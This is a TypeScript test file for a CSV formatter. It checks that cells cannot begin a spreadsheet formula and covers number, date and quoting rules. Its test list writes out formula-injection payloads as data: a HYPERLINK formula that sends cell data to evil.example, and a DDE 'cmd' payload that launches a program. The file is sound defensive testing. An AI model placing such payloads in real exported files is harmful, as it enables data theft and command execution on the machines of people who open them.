import fc from 'fast-check'
import { expect, test } from 'vitest'
import { formatCsvRows, type CsvCell } from './csvRow.ts'

/** An independent CSV parser (RFC 4180). */
function readCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let at = 0
  while (at < text.length) {
    let cell = ''
    if (text[at] === '"') {
      for (at += 1; text[at] !== '"' || text[at + 1] === '"'; at += 1) {
        if (text[at] === '"') at += 1
        cell += text[at] ?? ''
      }
      at += 1
    } else {
      while (text[at] !== ',' && text[at] !== '\r') cell += text[at++] ?? ''
    }
    row.push(cell)
    if (text[at] === ',') at += 1
    else {
      expect(text.slice(at, at + 2)).toBe('\r\n')
      at += 2
      rows.push(row)
      row = []
    }
  }
  return rows
}

const read = (...cells: CsvCell[]) => readCsv(formatCsvRows([cells]))[0]
const trigger = /^[=+\-@\t\r\n＝＋－＠]/

test('S-52 no CSV cell with text can start a formula, and only control characters of the text are lost', () => {
  const odd = fc.string({ unit: fc.constantFrom(...'=+-@\t\r\n＝＋－＠",; a1é🎭') })
  fc.assert(
    fc.property(fc.array(fc.oneof(fc.string(), odd), { minLength: 1 }), (texts) => {
      const [cells = [], ...others] = readCsv(formatCsvRows([texts]))
      expect(others).toEqual([])
      for (const [index, cell] of cells.entries()) {
        expect(cell).not.toMatch(trigger)
        // oxlint-disable-next-line no-control-regex -- control characters are removed
        const printable = (texts[index] ?? '').replace(/[\0-\x08\v\f\x0e-\x1f\x7f]/g, '')
        expect([printable, `'${printable}`]).toContain(cell)
      }
    }),
  )
})

test.each([
  '=HYPERLINK("http://evil.example?"&A1,"click")',
  "+cmd|' /C calc'!A0",
  '-2+3+cmd|x',
  '@SUM(1+1)*cmd',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '\0=1+1',
])('S-52 %j is written as text, not as a formula', (text) => {
  expect(read(text)?.[0]).toMatch(/^'/)
})

test('S-52 in a CSV file, a list whose first text could start a formula (`=1+1`) is written as text', () => {
  expect(formatCsvRows([[['=1+1', 'B']]])).toBe('"\'=1+1; B"\r\n')
})

test('a CSV file has numbers, also negative ones, as numbers; phone numbers are text with their plus sign', () => {
  expect(formatCsvRows([[-5, 0, 1234.5, NaN, '+44 20 7946 0958', '-5']])).toBe(
    '-5,0,1234.5,,"\'+44 20 7946 0958","\'-5"\r\n',
  )
})

test('in a CSV file, dates are ISO 8601 in UTC, lists use semicolons, null is empty, and quotes are doubled', () => {
  const at = new Date('2026-11-21T09:30:00.000Z')
  expect(formatCsvRows([[at, ['A', 'B'], null, undefined, true, false, 'say "hi", Bob']])).toBe(
    '2026-11-21T09:30:00.000Z,"A; B",,,yes,no,"say ""hi"", Bob"\r\n',
  )
})
